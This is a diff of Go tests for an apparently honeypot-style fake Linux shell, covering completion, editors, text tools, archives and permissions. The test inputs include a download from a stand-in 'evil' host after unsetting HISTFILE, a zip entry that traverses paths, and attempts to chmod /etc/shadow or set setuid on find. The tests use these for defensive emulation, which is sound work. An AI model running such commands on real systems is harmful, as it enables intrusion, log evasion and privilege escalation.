+	if e, _ := fs.GetEntry("/root/.bash_history"); string(e.Content) != "history -w\n" {
+		t.Errorf("history -w after -c: %q", e.Content)
+	}
+	submit("unset HISTFILE")
+	submit("wget http://evil/x")
+	term.saveHistory()
+	if e, _ := fs.GetEntry("/root/.bash_history"); string(e.Content) != "history -w\n" {
+		t.Errorf("history written with HISTFILE unset: %q", e.Content)
+	}
+}
+
+func TestTabCompletion(t *testing.T) {
+	var out bytes.Buffer
+	rw := &struct {
+		io.Reader
+		io.Writer
+	}{bytes.NewReader(nil), &out}
+	fs := NewSessionFS()
+	fs.Write("/tmp/my file.txt", []byte("x"), 0644)
+	fs.Write("/root/.ssh/known_hosts", []byte("10.0.0.5,db01 ssh-ed25519 AAAA\n|1|hashed= ssh-rsa AAAA\n"), 0600)
+	term := NewTerminal(rw, fs, map[string]string{"USER": "root", "HOME": "/root", "PATH": "/usr/bin:/bin"}, 80, 24)
+	complete := func(line string, tabs int) string {
+		term.buffer, term.cursor = []rune(line), len([]rune(line))
+		term.completeAsk, term.action = nil, ""
+		out.Reset()
+		for i := 0; i < tabs; i++ {
+			term.handleKey(keyEvent{keyRune, '\t'})
+		}
+		return string(term.buffer)
+	}
+
+	cases := map[string]string{
+		"unam":              "uname ",
+		"cat /etc/pass":     "cat /etc/passwd ",
+		"cat /tmp/my":       `cat /tmp/my\ file.txt `,
+		`cat "/tmp/my`:      `cat "/tmp/my file.txt" `,
+		"echo $HOM":         "echo $HOME ",
+		"cd ~ro":            "cd ~root/",
+		"ssh root@db":       "ssh root@db01 ",
+		"sudo unam":         "sudo uname ",
+		"kill -KI":          "kill -KILL ",
+		"ls | gre":          "ls | grep ",
+		"echo hi > /tmp/my": `echo hi > /tmp/my\ file.txt `,
+	}
+	for in, want := range cases {
+		if got := complete(in, 1); got != want {
+			t.Errorf("complete %q = %q, want %q", in, got, want)
+		}
+	}
+
+	// 第二次 TAB 分栏列出候选
+	complete("ls /etc/host", 2)
+	if list := out.String(); !strings.Contains(list, "hostname  ") || !strings.Contains(list, "hosts") {
+		t.Errorf("candidate list: %q", list)
+	}
+	fs.Mkdir("/tmp/many")
+	for i := 0; i < 120; i++ {
+		fs.Write(fmt.Sprintf("/tmp/many/f%03d", i), nil, 0644)
+	}
+	complete("ls /tmp/many/", 2)
+	if !strings.Contains(out.String(), "Display all 120 possibilities? (y or n)") || term.completeAsk == nil {
+		t.Errorf("query for many candidates: %q", out.String())
+	}
+	term.handleKey(keyEvent{keyRune, 'n'})
+	if term.completeAsk != nil {
+		t.Error("answering n should cancel the listing")
+	}
+	if got := columnize([]string{"a", "b", "c", "d", "e"}, 9); got != "a  c  e\nb  d\n" {
+		t.Errorf("columnize: %q", got)
+	}
+}
+
+func TestStartupFiles(t *testing.T) {
+	var out bytes.Buffer
+	rw := &struct {
+		io.Reader
+		io.Writer
+	}{bytes.NewReader(nil), &out}
+	fs := NewSessionFS()
+	fs.Write("/home/user/.bash_aliases", []byte("alias x='echo aliased'\ngreet() {\n  echo hello $1\n}\n"), 0644)
+	term := NewTerminal(rw, fs.View("/home/user"), map[string]string{"USER": "user", "HOME": "/home/user", "PATH": "/usr/bin:/bin", "PS1": defaultPS1, "BASH": "/bin/bash", "BASH_VERSION": HostPersona.BashVersion}, 80, 24)
+	term.Stderr = &out
+	term.loadStartupFiles()
+	run := func(cmd string) string {
+		out.Reset()
+		term.runLines(cmd, &out)
+		return out.String()
+	}
+
+	if got := term.promptString(); got != "\033[01;32muser@ubuntu-server\033[00m:\033[01;34m~\033[00m$ " {
+		t.Errorf("PS1 from ~/.bashrc: %q", got)
+	}
+	if term.aliases["ll"] != "ls -alF" || term.lookupVar("HISTCONTROL") != "ignoreboth" {
+		t.Error("~/.bashrc not sourced via ~/.profile")
+	}
+	if got := run("x"); got != "aliased\n" {
+		t.Errorf("alias from ~/.bash_aliases: %q", got)
+	}
+	if got := run("greet world"); got != "hello world\n" {
+		t.Errorf("function: %q", got)
+	}
+	if got := run("unalias x; x"); !strings.Contains(got, "x: 未找到命令") {
+		t.Errorf("unalias: %q", got)
+	}
+	if got := run("false && echo no || echo yes"); got != "yes\n" {
+		t.Errorf("&& ||: %q", got)
+	}
+	if got := run("for i in {1..3}; do echo n$i; done"); got != "n1\nn2\nn3\n" {
+		t.Errorf("for: %q", got)
+	}
+	if got := run(`echo '$HOME' "$HOME" ${NOPE:-dflt}`); got != "$HOME /home/user dflt\n" {
+		t.Errorf("expansion: %q", got)
+	}
+
+	run(`PS1='[\u@\h \W]\$ '`)
+	run("cd /var/log")
+	if got := term.promptString(); got != "[user@ubuntu-server log]$ " {
+		t.Errorf("custom PS1: %q", got)
+	}
+}
+
+// runRaw 在后台运行全屏程序，按顺序送入按键 (每组之间留出重绘时间)，等待程序退出
+func runRaw(t *testing.T, term *Terminal, out io.Writer, args []string, keys ...string) {
+	t.Helper()
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		term.runCommand(args, nil, out)
+	}()
+	for {
+		term.mu.Lock()
+		ready := term.RawModeWriter != nil
+		term.mu.Unlock()
+		if ready {
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	for _, k := range keys {
+		term.mu.Lock()
+		w := term.RawModeWriter
+		term.mu.Unlock()
+		w.Write([]byte(k))
+		time.Sleep(100 * time.Millisecond)
+	}
+	select {
+	case <-done:
+	case <-time.After(2 * time.Second):
+		t.Fatalf("%s did not exit", args[0])
+	}
+}
+
+func TestTextEditors(t *testing.T) {
+	var out bytes.Buffer
+	var mu sync.Mutex
+	rw := &struct {
+		io.Reader
+		io.Writer
+	}{bytes.NewReader(nil), writerFunc(func(p []byte) (int, error) {
+		mu.Lock()
+		defer mu.Unlock()
+		return out.Write(p)
+	})}
+	fs := NewSessionFS()
+	fs.Write("/tmp/v.txt", []byte("one\ntwo\nthree\n"), 0600)
+	term := NewTerminal(rw, fs, map[string]string{"USER": "root", "HOME": "/root"}, 80, 24)
+	screen := func() string {
+		mu.Lock()
+		defer mu.Unlock()
+		return out.String()
+	}
+	edit := func(args []string, keys ...string) {
+		runRaw(t, term, &CRLFWriter{w: rw}, args, keys...)
+	}
+	content := func(p string) string {
+		e, ok := term.FS.GetEntry(p)
+		if !ok {
+			return "<missing>"
+		}
+		return string(e.Content)
+	}
+
+	// vi：dd/p 移动行，A 追加，/ 查找，x 删除；未保存时 :q 被拒绝
+	edit([]string{"vi", "/tmp/v.txt"}, "jddGp", "ggA!\x1b", "/thr\r", "x", ":q\r", ":wq\r")
+	if got := content("/tmp/v.txt"); got != "one!\nhree\ntwo\n" {
+		t.Errorf("vi result: %q", got)
+	}
+	if s := screen(); !strings.Contains(s, "E37: 已修改但尚未保存") || !strings.Contains(s, "\033[?1049h") {
+		t.Error("vi screen missing E37 message or alternate screen")
+	}
+	edit([]string{"vim", "/tmp/v.txt"}, ":%s/o/0/g\r", "u", ":s/one/ONE/\r", ":x\r")
+	if got := content("/tmp/v.txt"); got != "ONE!\nhree\ntwo\n" {
+		t.Errorf("vim undo/substitute: %q", got)
+	}
+
+	// nano：新文件，^K 剪切后上移一行用 ^U 粘贴，^X 退出时确认保存
+	edit([]string{"nano", "/tmp/n.txt"}, "hello\rworld", "\x0b", "\x1b[A", "\x15", "\x18", "y", "\r")
+	if got := content("/tmp/n.txt"); got != "world\nhello\n" {
+		t.Errorf("nano result: %q", got)
+	}
+	if !strings.Contains(screen(), "GNU nano") {
+		t.Error("nano title bar not drawn")
+	}
+
+	if d := lineDiff("a\nb\nc\n", "a\nx\nc\nd\n", 10); strings.Join(d, ",") != "-b,+x,+d" {
+		t.Errorf("lineDiff: %v", d)
+	}
+}
+
+func TestPagerAndMan(t *testing.T) {
+	var out bytes.Buffer
+	var mu sync.Mutex
+	rw := &struct {
+		io.Reader
+		io.Writer
+	}{bytes.NewReader(nil), writerFunc(func(p []byte) (int, error) {
+		mu.Lock()
+		defer mu.Unlock()
+		return out.Write(p)
+	})}
+	fs := NewSessionFS()
+	var long strings.Builder
+	for i := 1; i <= 100; i++ {
+		fmt.Fprintf(&long, "line %d\n", i)
+	}
+	fs.Write("/tmp/long.txt", []byte(long.String()), 0644)
+	term := NewTerminal(rw, fs, map[string]string{"USER": "root", "HOME": "/root"}, 80, 24)
+	screen := func() string {
+		mu.Lock()
+		defer mu.Unlock()
+		s := out.String()
+		out.Reset()
+		return s
+	}
+	run := func(cmd string) string {
+		var buf bytes.Buffer
+		term.runLines(cmd, &buf)
+		return buf.String()
+	}
+
+	// 输出不是终端时等同于 cat，管道输入不再被丢弃
+	if got := run("cat /tmp/long.txt | less"); got != long.String() {
+		t.Errorf("less fallback: %q", got)
+	}
+	if got := run("more /nope"); !strings.Contains(got, "more: 无法打开 /nope") {
+		t.Errorf("more missing file: %q", got)
+	}
+
+	// less：首屏状态行带百分比，G 到末尾显示 (END)，/ 查找
+	runRaw(t, term, &CRLFWriter{w: rw}, []string{"less", "/tmp/long.txt"}, "G", "q")
+	if s := screen(); !strings.Contains(s, "/tmp/long.txt 第 1-23/100 行 23%") || !strings.Contains(s, "(END)") {
+		t.Errorf("less status line: %q", s)
+	}
+	runRaw(t, term, &CRLFWriter{w: rw}, []string{"less", "/tmp/long.txt"}, "/line 5.\r", "n", "q")
+	if s := screen(); !strings.Contains(s, "第 50-72/100 行") || !strings.Contains(s, "\033[7mline 50\033[27m") {
+		t.Errorf("less search: %q", s)
+	}
+
+	// more：不用备用屏幕，空格翻页，q 退出
+	runRaw(t, term, &CRLFWriter{w: rw}, []string{"more", "/tmp/long.txt"}, " ", "q")
+	if s := screen(); !strings.Contains(s, "--更多--(23%)") || !strings.Contains(s, "line 46") || strings.Contains(s, "line 47") {
+		t.Errorf("more paging: %q", s)
+	}
+
+	if got := run("man ls"); !strings.Contains(got, "LS(1)") || !strings.Contains(got, "       -l     use a long listing format") {
+		t.Errorf("man ls: %q", got)
+	}
+	if got := run("man nope"); got != "没有 nope 的手册页条目\n" {
+		t.Errorf("man nope: %q", got)
+	}
+	if got := run("man -k directory"); !strings.Contains(got, "ls (1)               - list directory contents") {
+		t.Errorf("man -k: %q", got)
+	}
+	runRaw(t, term, &CRLFWriter{w: rw}, []string{"man", "grep"}, "q")
+	if s := screen(); !strings.Contains(s, "手册页 grep(1) 第 1 行") || !strings.Contains(s, "\033[1mNAME") {
+		t.Errorf("man pager: %q", s)
+	}
+}
+
+func TestTextTools(t *testing.T) {
+	fs := NewSessionFS()
+	fs.Write("/tmp/access.log", []byte("1.1.1.1 GET /a\n2.2.2.2 GET /b\n1.1.1.1 POST /c\n3.3.3.3 GET /a\n1.1.1.1 GET /d\n"), 0644)
+	fs.Write("/tmp/conf", []byte("PasswordAuthentication no\nPort 22\n"), 0644)
+	_, run := newTestTerminal(fs, nil)
+
+	cases := []struct{ cmd, want string }{
+		{"cut -d: -f1 /etc/passwd | head -1", "root\n"},
+		{"cut -d' ' -f1 /tmp/access.log | sort | uniq -c | sort -rn | head -n1", "      3 1.1.1.1\n"},
+		{"awk '{print $1}' /tmp/access.log | sort -u", "1.1.1.1\n2.2.2.2\n3.3.3.3\n"},
+		{"awk -F: '$3 == 0 {print $1}' /etc/passwd", "root\n"},
+		{`awk '{n[$2]++} END {for (k in n) printf "%s=%d\n", k, n[k]}' /tmp/access.log`, "GET=4\nPOST=1\n"},
+		{"echo 'a|b|c' | awk -F'|' '{print $2, NF}'", "b 3\n"},
+		{`awk 'BEGIN { x = 1.5; s = "v" x; print s, length(s), substr("hello", 2, 3), toupper("ok") }'`, "v1.5 4 ell OK\n"},
+		{"echo hello world | sed 's/o/0/g'", "hell0 w0rld\n"},
+		{"sed -n '2p' /tmp/access.log", "2.2.2.2 GET /b\n"},
+		{`cut -c1 /tmp/access.log | head -3 | sed ':a;N;$!ba;s/\n/,/g'`, "1,2,1\n"},
+		{"echo 'Hello' | tr a-z A-Z", "HELLO\n"},
+		{"echo 'a1b2c3' | tr -d 0-9", "abc\n"},
+		{"awk '{print $3}' /tmp/access.log | head -3 | xargs echo n:", "n: /a /b /c\n"},
+		{"cut -d' ' -f2 /tmp/access.log | uniq | xargs -I{} echo [{}]", "[GET]\n[POST]\n[GET]\n"},
+		{"echo tee | tee /tmp/t1", "tee\n"},
+		{"sed 's/x/' /tmp/conf", "sed: -e 表达式 #1, 字符 4: 未终止的“s”命令\n"},
+		{"awk '{print' /tmp/conf", "awk: line 1: syntax error at or near end of file\n"},
+		{"awk 1 /nope", "awk: run time error: cannot open /nope (No such file or directory)\n\tFILENAME=\"\" FNR=0 NR=0\n"},
+		{"ls /nope 2>/dev/null; echo $?", "2\n"},
+		{"ls /nope 2>&1 | grep -c 无法访问", "1\n"},
+		{"ls /nope 2>/tmp/err; cat /tmp/err", "ls: 无法访问 '/nope': 没有那个文件或目录\n"},
+		{"ls /nope /etc/hostname &>/tmp/both; cat /tmp/both", "ls: 无法访问 '/nope': 没有那个文件或目录\n/etc/hostname\n"},
+		{"echo oops 2>/dev/null >&2", ""},
+		{"echo oops >&2 2>/dev/null", "oops\n"},
+		{"tr a-z A-Z < /tmp/conf | head -1", "PASSWORDAUTHENTICATION NO\n"},
+		{"wc -l < /etc/passwd | grep -c '^[0-9]*$'", "1\n"},
+		{"grep root < /etc/passwd | cut -d: -f1", "root\n"},
+		{"cut -d' ' -f1 </tmp/access.log | sort | uniq | wc -l", "3\n"},
+		{"cat < /tmp/conf > /tmp/conf2; cat /tmp/conf2", "PasswordAuthentication no\nPort 22\n"},
+		{"sort < /nope; echo $?", "-bash: /nope: 没有那个文件或目录\n1\n"},
+		{"echo /nope /tmp | xargs -n1 /bin/ls -d 2>/dev/null | cat; echo /nope | xargs /bin/ls 2>/dev/null; echo $?", "/tmp\n123\n"},
+		{`echo x | awk '{ r = system("ls /nope 2>/dev/null"); print r }' | cat; echo $?`, "2\n0\n"},
+		{`awk 'BEGIN{for(;;)x=x "aaaaaaaaaa"}'; echo $?`, "awk: run time error: execution limit exceeded\n\tFILENAME=\"\" FNR=0 NR=0\n2\n"},
+		{`awk 'BEGIN{x="ab"; for(;;) x=sprintf("%s%s",x,x)}'`, "awk: run time error: out of memory\n\tFILENAME=\"\" FNR=0 NR=0\n"},
+		{`awk 'BEGIN{for(;;) a[i++]}'`, "awk: run time error: out of memory\n\tFILENAME=\"\" FNR=0 NR=0\n"},
+		{"echo x | sed ':a;s/x/xx/;ta'; echo $?", "sed: 超出执行限制\n4\n"},
+		{"echo x | sed ':a;s/x*/&&&&/;H;ta'", "sed: 无法重新分配内存\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+
+	run("sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /tmp/conf")
+	if e, _ := fs.GetEntry("/tmp/conf"); string(e.Content) != "PasswordAuthentication yes\nPort 22\n" {
+		t.Errorf("sed -i: %q", e.Content)
+	}
+	run("echo more >> /tmp/t1; awk '{print NR\": \"$0 > \"/tmp/t2\"}' /tmp/t1")
+	if e, ok := fs.GetEntry("/tmp/t2"); !ok || string(e.Content) != "1: tee\n2: more\n" {
+		t.Errorf("tee/append/awk redirect: %v", e)
+	}
+}
+
+func TestGrep(t *testing.T) {
+	fs := NewSessionFS()
+	fs.Mkdir("/tmp/d")
+	fs.Write("/tmp/d/a.txt", []byte("alpha\nbeta\ngamma\ndelta\nepsilon\nzeta\n"), 0644)
+	fs.Write("/tmp/d/b.conf", []byte("password=x\nuser=root\n"), 0644)
+	fs.Write("/tmp/d/bin", []byte("ELF\x00password\n"), 0755)
+	_, run := newTestTerminal(fs, nil)
+
+	cases := []struct{ cmd, want string }{
+		{"grep -i ROOT /etc/passwd; echo $?", "root:x:0:0:root:/root:/bin/bash\n0\n"},
+		{"grep -c nologin /etc/passwd | wc -l", "1\n"},
+		{"grep -n -A1 beta /tmp/d/a.txt", "2:beta\n3-gamma\n"},
+		{"grep -B1 -e gamma -e zeta /tmp/d/a.txt", "beta\ngamma\n--\nepsilon\nzeta\n"},
+		{"grep -r password /tmp/d", "/tmp/d/b.conf:password=x\ngrep: /tmp/d/bin: 匹配到二进制文件\n"},
+		{"grep -rl password /tmp/d --include='*.conf'", "/tmp/d/b.conf\n"},
+		{"egrep 'al|ga' /tmp/d/a.txt", "alpha\ngamma\n"},
+		{`grep 'mm\|ps' /tmp/d/a.txt`, "gamma\nepsilon\n"},
+		{"grep -o 'e[a-z]' /tmp/d/a.txt | sort -u", "el\nep\net\n"},
+		{"grep -w eta /tmp/d/a.txt; echo $?", "1\n"},
+		{"grep -vx beta /tmp/d/a.txt | head -2", "alpha\ngamma\n"},
+		{"fgrep 'a.' /tmp/d/a.txt; echo $?", "1\n"},
+		{"grep x /nope; echo $?", "grep: /nope: 没有那个文件或目录\n2\n"},
+		{"grep -q alpha /tmp/d/a.txt /nope; echo $?", "0\n"},
+		{"grep x /tmp/d; echo $?", "grep: /tmp/d: 是一个目录\n2\n"},
+		{"grep '[' /tmp/d/a.txt; echo $?", "grep: 未匹配的 [、[^、[:、[. 或 [=\n2\n"},
+		{"cd /tmp/d; grep -r root", "b.conf:user=root\n"},
+		{"echo hi | grep -H hi", "(标准输入):hi\n"},
+		{"grep -L alpha /tmp/d/a.txt /tmp/d/b.conf", "/tmp/d/b.conf\n"},
+		{"wc /tmp/d/a.txt", " 6  6 36 /tmp/d/a.txt\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+}
+
+func TestFsInfo(t *testing.T) {
+	fs := NewSessionFS()
+	fs.Mkdir("/tmp/d")
+	fs.Mkdir("/tmp/d/sub")
+	fs.Write("/tmp/d/a.txt", []byte("alpha\nbeta\n"), 0644)
+	fs.Write("/tmp/d/run.sh", []byte("#!/bin/bash\necho hi\n"), 0755)
+	fs.Write("/tmp/d/sub/x.gz", []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03abcdefgh\x05\x00\x00\x00"), 0644)
+	fs.Write("/tmp/d/.hidden", []byte(""), 0600)
+	_, run := newTestTerminal(fs, nil)
+
+	cases := []struct{ cmd, want string }{
+		{"ls /tmp/d", "a.txt\nrun.sh\nsub\n"},
+		{"ls -A1F /tmp/d", "a.txt\n.hidden\nrun.sh*\nsub/\n"},
+		{"ls -S /tmp/d", "sub\nrun.sh\na.txt\n"},
+		{"ls -R /tmp/d", "/tmp/d:\na.txt\nrun.sh\nsub\n\n/tmp/d/sub:\nx.gz\n"},
+		{"ls -la /tmp/d | head -1", "total 20\n"},
+		{"ls /nope; echo $?", "ls: 无法访问 '/nope': 没有那个文件或目录\n2\n"},
+		{"find /tmp/d -type f -name '*.sh'", "/tmp/d/run.sh\n"},
+		{"find /tmp/d -maxdepth 1 -type d", "/tmp/d\n/tmp/d/sub\n"},
+		{"find /tmp/d -perm -u+x -type f", "/tmp/d/run.sh\n"},
+		{"find /tmp/d -empty", "/tmp/d/.hidden\n"},
+		{`find /tmp/d -name '*.txt' -exec cat {} \;`, "alpha\nbeta\n"},
+		{"find /tmp/d -type f -newer /nope", "find: ‘/nope’: 没有那个文件或目录\n"},
+		{"find /tmp/d/sub -printf '%f %s %m\\n'", "sub 4096 755\nx.gz 22 644\n"},
+		{"find / -perm -4000 -name sudo -path '/usr/*'", "/usr/bin/sudo\n"},
+		{"find /nope; echo $?", "find: ‘/nope’: 没有那个文件或目录\n1\n"},
+		{"stat -c '%n %s %a %A %U:%G %F' /tmp/d/a.txt /tmp/d", "/tmp/d/a.txt 11 644 -rw-r--r-- root:root regular file\n/tmp/d 4096 755 drwxr-xr-x root:root directory\n"},
+		{"stat /etc/passwd | head -1", "  File: /etc/passwd\n"},
+		{"stat /nope", "stat: 无法获取'/nope' 的文件状态: 没有那个文件或目录\n"},
+		{"file /tmp/d/run.sh /tmp/d/.hidden /tmp/d", "/tmp/d/run.sh:  Bourne-Again shell script, ASCII text executable\n/tmp/d/.hidden: empty\n/tmp/d:         directory\n"},
+		{"file -b /tmp/d/a.txt", "ASCII text\n"},
+		{"file -i /tmp/d/sub/x.gz", "/tmp/d/sub/x.gz: application/gzip; charset=binary\n"},
+		{"file --mime-type -b /tmp/d/run.sh", "text/x-shellscript\n"},
+		{"du -sh /tmp/d", "20K\t/tmp/d\n"},
+		{"du -c /tmp/d", "8\t/tmp/d/sub\n20\t/tmp/d\n20\ttotal\n"},
+		{"cd /tmp/d; find . -name '*.txt' -delete; ls", "run.sh\nsub\n"},
+		{"chmod -x /tmp/d/run.sh; chmod u+x,go=u-w /tmp/d/run.sh; stat -c %a /tmp/d/run.sh", "755\n"},
+		{"chmod a=rX /tmp/d/sub/x.gz /tmp/d/sub; stat -c %a /tmp/d/sub/x.gz /tmp/d/sub", "444\n555\n"},
+		{"chmod -R u+w /tmp/d/sub; chmod -c +w /tmp/d/.hidden; stat -c %a /tmp/d/sub/x.gz", "644\n"},
+		{"chmod 4755 /tmp/d/run.sh; ls -l /tmp/d/run.sh | cut -c1-10; chmod u-s,+t /tmp/d/run.sh; stat -c %A /tmp/d/run.sh", "-rwsr-xr-x\n-rwxr-xr-t\n"},
+		{"chmod -v 700 /tmp/d/run.sh", "'/tmp/d/run.sh' 的模式已由 1755 (rwxr-xr-t) 更改为 0700 (rwx------)\n"},
+		{"chmod zz /tmp/d/run.sh; chmod 644 /nope; echo $?", "chmod: 无效模式：'zz'\nTry 'chmod --help' for more information.\nchmod: 无法访问 '/nope': 没有那个文件或目录\n1\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+
+	// 普通用户只能修改自己的文件
+	_, www := newTestTerminal(fs, map[string]string{"USER": "www-data", "HOME": "/var/www"})
+	if got := www("chmod 777 /etc/shadow; chmod u+s /usr/bin/find; echo $?; stat -c %a /etc/shadow"); got != "chmod: 正在更改 '/etc/shadow' 的权限: 不允许的操作\n"+
+		"chmod: 正在更改 '/usr/bin/find' 的权限: 不允许的操作\n1\n640\n" {
+		t.Errorf("chmod by www-data on root files: %q", got)
+	}
+	if got := www("echo x > /tmp/m; chmod +x /tmp/m; stat -c %a /tmp/m"); got != "755\n" {
+		t.Errorf("chmod by www-data on its own file: %q", got)
+	}
+}
+
+func TestArchiveTools(t *testing.T) {
+	CaptureDir = t.TempDir()
+	fs := NewSessionFS()
+	fs.Mkdir("/tmp/d")
+	fs.Mkdir("/tmp/d/sub")
+	fs.Write("/tmp/d/a.txt", []byte("alpha\nbeta\n"), 0644)
+	fs.Write("/tmp/d/sub/run.sh", []byte("#!/bin/sh\necho hi\n"), 0755)
+	var zb bytes.Buffer
+	zw := zip.NewWriter(&zb)
+	w, _ := zw.Create("pkg/bot.py")
+	w.Write([]byte("print(1)\n"))
+	w, _ = zw.Create("../evil")
+	w.Write([]byte("x"))
+	zw.Close()
+	fs.Write("/tmp/p.zip", zb.Bytes(), 0644)
+	_, run := newTestTerminal(fs, nil)
+
+	cases := []struct{ cmd, want string }{
+		{"cd /tmp; tar czvf d.tgz d; echo $?", "d/\nd/a.txt\nd/sub/\nd/sub/run.sh\n0\n"},
+		{"cd /tmp; tar tzf d.tgz | wc -l", "4\n"},
+		{"cd /tmp; mkdir x; tar xzf d.tgz -C x; cat x/d/sub/run.sh; stat -c %a x/d/sub/run.sh", "#!/bin/sh\necho hi\n755\n"},
+		{"cd /tmp; tar -xf d.tgz --strip-components=2 -C x d/sub/run.sh; ls x", "d\nrun.sh\n"},
+		{"cd /tmp; tar czf - d | tar xzOf - d/a.txt", "alpha\nbeta\n"},
+		{"cd /tmp; tar cf - /tmp/d/a.txt | tar tf -", "tar: 从成员名中删除开头的“/”\ntmp/d/a.txt\n"},
+		{"tar xf /nope.tar; echo $?", "tar: /nope.tar：无法 open: 没有那个文件或目录\ntar: 错误不可恢复：现在退出\n2\n"},
+		{"tar xf /tmp/d/a.txt; echo $?", "tar: 这似乎不像是一个 tar 归档\ntar: 由于前次错误，将以上次的错误状态退出\n2\n"},
+		{"cd /tmp/d; gzip a.txt; ls; zcat a.txt.gz; gunzip a.txt.gz; ls", "a.txt.gz\nsub\nalpha\nbeta\na.txt\nsub\n"},
+		{"cd /tmp/d; gzip -d a.txt; echo $?", "gzip: a.txt: unknown suffix -- ignored\n2\n"},
+		{"cat /tmp/d/a.txt | gzip | gzip -d", "alpha\nbeta\n"},
+		{"gzip /nope; echo $?", "gzip: /nope: No such file or directory\n1\n"},
+		{"cd /tmp; unzip -q p.zip -d out; find out -type f", "out/evil\nout/pkg/bot.py\n"},
+		{"cd /tmp; unzip -o p.zip pkg/bot.py", "Archive:  p.zip\n  inflating: pkg/bot.py  \n"},
+		{"unzip -p /tmp/p.zip pkg/bot.py", "print(1)\n"},
+		{"unzip /nope; echo $?", "unzip:  cannot find or open /nope, /nope.zip or /nope.ZIP.\n9\n"},
+		{"echo hello world | base64", "aGVsbG8gd29ybGQK\n"},
+		{"echo aGVsbG8gd29ybGQK | base64 -d", "hello world\n"},
+		{"echo 'aGVs#bG8K' | base64 -di", "hello\n"},
+		{"echo '!!' | base64 -d; echo $?", "base64: 输入无效\n1\n"},
+		{"base64 -w 8 /tmp/d/a.txt", "YWxwaGEK\nYmV0YQo=\n"},
+		{"echo hello | xxd", "00000000: 6865 6c6c 6f0a                           hello.\n"},
+		{"echo hello | xxd -p", "68656c6c6f0a\n"},
+		{"echo 68656c6c6f0a | xxd -r -p", "hello\n"},
+		{"echo hello world | xxd | xxd -r", "hello world\n"},
+		{"cd /tmp/d; xxd -i -c 4 a.txt", "unsigned char a_txt[] = {\n  0x61, 0x6c, 0x70, 0x68,\n  0x61, 0x0a, 0x62, 0x65,\n  0x74, 0x61, 0x0a\n};\nunsigned int a_txt_len = 11;\n"},
+		{"xxd /nope; echo $?", "xxd: /nope: No such file or directory\n2\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+
+	// 解包出的文件和解码结果都进入隔离区
+	for _, data := range []string{"#!/bin/sh\necho hi\n", "print(1)\n", "hello world\n"} {
+		sum := sha256.Sum256([]byte(data))
+		if _, err := os.Stat(filepath.Join(CaptureDir, hex.EncodeToString(sum[:]))); err != nil {
+			t.Errorf("%q not captured: %v", data, err)
+		}
+	}
+}
+
+func TestBinaryTools(t *testing.T) {
+	fs := NewSessionFS()
+	fs.Mkdir("/tmp/d")
+	fs.Write("/tmp/d/a.txt", []byte("alpha\nbeta\n"), 0644)
+	fs.Write("/tmp/d/bin", []byte("\x7fELF\x02\x01\x01\x00/lib64/ld-linux.so\x00\x00GLIBC_2.2\x00ab\x00hello world\n"), 0755)
+	_, run := newTestTerminal(fs, nil)
+
+	cases := []struct{ cmd, want string }{
+		{"md5sum /tmp/d/a.txt", "852e77b490fb4e8653fbc11f4c6f89c2  /tmp/d/a.txt\n"},
+		{"echo hi | sha256sum", "98ea6e4f216f2fb4b69fff9b3a44842c38686ca685f3f55dc48c5d3fb1107be4  -\n"},
+		{"echo -n abc | sha256sum", "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n"},
+		{"echo -n abc | wc -c; echo -nx a", "3\n-nx a\n"},
+		{"echo -e 'a\\tb\\x41\\0101\\u00e9\\cZZ' | od -c", "0000000   a  \\t   b   A   A 303 251\n0000007\n"},
+		{"echo -E 'a\\tb'; echo -ne 'x\\n'", "a\\tb\nx\n"},
+		{"sha1sum --tag /tmp/d/a.txt", "SHA1 (/tmp/d/a.txt) = 9269a71477ce057095d7e6bb5238b4bd6e13c051\n"},
+		{"cd /tmp/d; md5sum a.txt bin > sums; md5sum -c sums", "a.txt: 成功\nbin: 成功\n"},
+		{"cd /tmp/d; echo x >> a.txt; md5sum -c --quiet sums; echo $?", "a.txt: 失败\nmd5sum: 警告：1 个校验和不匹配\n1\n"},
+		{"md5sum -c /tmp/d/bin; echo $?", "md5sum: /tmp/d/bin: 没有找到正确格式的 MD5 校验和行\n1\n"},
+		{"md5sum /nope; echo $?", "md5sum: /nope: 没有那个文件或目录\n1\n"},
+		{"echo hello world | hexdump -C", "00000000  68 65 6c 6c 6f 20 77 6f  72 6c 64 0a              |hello world.|\n0000000c\n"},
+		{"echo hello world | hexdump", "0000000 6568 6c6c 206f 6f77 6c72 0a64\n000000c\n"},
+		{"head -c 40 /dev/zero | hd", "00000000  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|\n*\n00000020  00 00 00 00 00 00 00 00                           |........|\n00000028\n"},
+		{"echo hello world | od -A x -t x1z", "000000 68 65 6c 6c 6f 20 77 6f 72 6c 64 0a              >hello world.<\n00000c\n"},
+		{"echo hello world | od -c", "0000000   h   e   l   l   o       w   o   r   l   d  \\n\n0000014\n"},
+		{"echo hello | od -t x1 -t c", "0000000  68  65  6c  6c  6f  0a\n          h   e   l   l   o  \\n\n0000006\n"},
+		{"strings /tmp/d/bin", "/lib64/ld-linux.so\nGLIBC_2.2\nhello world\n"},
+		{"strings -n 10 -t x /tmp/d/bin", "      8 /lib64/ld-linux.so\n     29 hello world\n"},
+		{"dd if=/dev/zero of=/tmp/z bs=1k count=4 status=noxfer; stat -c %s /tmp/z", "记录了4+0 的读入\n记录了4+0 的写出\n4096\n"},
+		{"dd if=/tmp/d/a.txt bs=4 skip=1 count=2 status=none", "a\nbeta\nx"},
+		{"dd if=/dev/urandom of=/tmp/big bs=1M count=8 status=none; echo $?; stat -c %s /tmp/big", "dd: 写入'/tmp/big' 出错: 设备上没有空间\n1\n5242880\n"},
+		{"dd if=/nope; echo $?", "dd: 无法打开'/nope': 没有那个文件或目录\n1\n"},
